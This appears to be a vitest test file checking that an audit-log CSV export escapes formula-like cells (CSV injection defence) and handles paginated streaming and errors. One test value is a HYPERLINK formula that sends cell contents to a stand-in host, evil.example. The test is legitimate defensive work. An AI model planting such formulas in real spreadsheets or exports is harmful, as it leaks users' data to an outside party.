import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import type { AuditEntry } from '../../shared/contract/audit.ts'
import { fromSafeCell, toSafeCell } from '../../shared/safe-cell.ts'
import { writers } from '../../supabase/functions/organizations/audit-files.ts'
import { acme, type Asked, createFunctions } from './support/functions.ts'

const entry = (position: number, changes: Partial<AuditEntry> = {}): AuditEntry => ({
  id: acme,
  position,
  occurred_at: '2026-11-24T10:00:00.123456+00:00',
  actor_type: 'user',
  actor_id: acme,
  actor_email: 'alice@acme.test',
  on_behalf_of: null,
  action: 'organization.updated',
  object_type: 'organization',
  object_id: acme,
  before: { name: 'Acme' },
  after: { name: '=1+1' },
  request_id: null,
  address: null,
  hash: '0'.repeat(64),
  ...changes,
})

describe('a cell', () => {
  const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '⁺']
  const fronts = ['', ' ', '"', "'", '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '“', '" ', " '"]
  it.each(starts)('that begins with %s is a text, also behind a space or a quote', (start) => {
    for (const front of fronts) {
      const text = `${front}${start}1+1`
      expect(toSafeCell(text), JSON.stringify(front)).toBe(`'${text}`)
      expect(fromSafeCell(toSafeCell(text))).toBe(text)
    }
  })

  it.each(['\t', '\r', '\n'])('that begins with %j is a text', (start) => {
    expect(toSafeCell(`${start}x`)).toBe(`'${start}x`)
  })

  it.each(['Acme', 'a=b', '1-2', ' a', '"a"', '{"a":"=1"}', 'a@b.test', '', '2026-11-24', 'x\t=1'])(
    '%j stays as it is',
    (text) => {
      expect(toSafeCell(text)).toBe(text)
      expect(fromSafeCell(text)).toBe(text)
    },
  )

  it('of a file is such a text, in whatever column somebody wrote it', () => {
    const text = `=HYPERLINK("https://evil.example?"&A1,"x"),\r\n+1`
    const changes = { actor_email: text, request_id: `"${text}`, object_type: '@x', action: '-1+1', address: '\t=1' }
    const [row] = parse<Record<string, string>>(writers.csv([entry(1, changes)], true), { columns: true })
    expect(row).toMatchObject(Object.fromEntries(Object.entries(changes).map(([name, value]) => [name, `'${value}`])))
    expect(JSON.parse(row?.after ?? '')).toEqual({ name: '=1+1' })
  })
})

describe('an export', () => {
  const page = (from: number, next_cursor: string | null) => ({ entries: [entry(from), entry(from + 1)], next_cursor })
  const path = `/organizations/${acme}/audit/export`
  const exporting = (answer: (asked: Asked) => Response) => {
    const functions = createFunctions(answer)
    return { ...functions, answered: functions.sendAsAlice('POST', path, { format: 'jsonl' }) }
  }
  const cursorOf = ({ body }: Asked) => Object(body).page_cursor

  it('asks for page after page, each where the one before it ended', async () => {
    const { answered, asked } = exporting((call) =>
      Response.json(cursorOf(call) ? page(3, cursorOf(call) === '2' ? '4' : null) : page(1, '2'))
    )
    expect((await (await answered).text()).split('\n')).toHaveLength(7)
    expect(asked.map(cursorOf)).toEqual([undefined, '2', '4'])
  })

  it('is refused like any other request while nothing is written', async () => {
    const { answered } = exporting(() => Response.json({ code: 'PT403', hint: 'forbidden' }, { status: 403 }))
    const response = await answered
    expect(response.status).toBe(403)
    expect(await response.json()).toMatchObject({ code: 'forbidden' })
  })

  it.each([
    [403, { code: 'PT403', hint: 'forbidden', message: 'No.' }, 'forbidden'],
    [500, { code: '57014', message: 'canceling statement due to statement timeout' }, 'unavailable'],
    [200, { entries: 'none' }, 'internal'],
  ])('breaks off when a later page is answered with %i, and the log says why', async (status, body, problem) => {
    const { answered, logged } = exporting((call) =>
      cursorOf(call) ? Response.json(body, { status }) : Response.json(page(1, '2'))
    )
    const response = await answered
    expect(response.status).toBe(200)
    await expect(response.text()).rejects.toThrow()
    expect(logged.map(({ level, problem, route }) => [level, problem, route])).toEqual([
      ['info', undefined, path.replace(acme, ':organization_id')],
      ['error', problem, path.replace(acme, ':organization_id')],
    ])
    expect(logged[1]).toMatchObject({ request_id: logged[0]?.request_id, organization_id: acme })
    expect(logged[1]?.cause).toMatch(/^The answer broke off: /)
  })

  it('reads no further than the client does', async () => {
    const { answered, asked } = exporting(() => Response.json(page(1, '2')))
    const reader = (await answered).body?.getReader()
    await reader?.read()
    await reader?.cancel()
    await new Promise((resolve) => setTimeout(resolve, 20))
    expect(asked.length).toBeLessThan(6)
  })
})
